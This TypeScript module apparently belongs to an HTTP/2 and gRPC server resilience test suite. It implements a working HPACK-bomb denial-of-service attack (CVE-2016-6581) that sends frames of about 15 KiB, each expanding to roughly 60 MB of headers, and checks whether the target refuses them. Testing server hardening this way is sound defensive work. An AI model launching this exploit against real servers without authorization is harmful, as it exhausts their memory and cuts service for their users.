import { type Attack, createTally, repeat } from "./attack.js";
import { frameTypes, headersFrame, readFrames, rstFrame } from "./h2-frames.js";
import { grpcHeaders, openH2, unaryPath } from "./h2-session.js";
import { hpackIndexed, hpackStored } from "./hpack.js";

const bombs = 20;
const references = 15_000;

/**
 * Header lists of 60 MB in a frame of 16 KiB: one header of 4,000 bytes is put
 * into the dynamic table, and then named by one byte each time
 * (CVE-2016-6581).
 */
export const hpackBombs: Attack = {
  name: "hpack-bombs",
  what: `header lists of 60 MB each that are 15 KiB on the wire, ${bombs} to a connection`,
  unit: "header lists",
  full: { count: 4_000, holdMs: 0 },
  quick: { count: 100, holdMs: 0 },
  async run(target, { count }) {
    const tally = createTally();
    const reference = hpackIndexed(62);
    const bomb = Buffer.concat([
      grpcHeaders(unaryPath),
      ...Array.from({ length: references }, () => reference),
    ]);
    const stored = Buffer.concat([
      grpcHeaders(unaryPath),
      hpackStored("x", "y".repeat(4_000)),
    ]);
    await repeat(Math.ceil(count / bombs), 8, async () => {
      const connection = await openH2(target);
      await connection.write(
        Buffer.concat([headersFrame(1, stored), rstFrame(1)]),
      );
      for (let index = 1; index <= bombs; index++) {
        await connection.write(headersFrame(1 + 2 * index, bomb));
      }
      const refusals = () =>
        readFrames(connection.received()).filter(
          ({ type, streamId }) => type === frameTypes.rstStream && streamId > 1,
        ).length;
      await connection.until(() => refusals() === bombs, 10_000);
      tally.add("refused", refusals());
      if (connection.isClosed()) {
        tally.add("connections cut");
      } else {
        tally.add("not refused", bombs - refusals());
      }
      connection.leave();
    });
    const missing = tally.counts["not refused"] ?? 0;
    const wrong = missing > 0 ? [`${missing} were not refused`] : [];
    return { counts: tally.counts, wrong };
  },
};
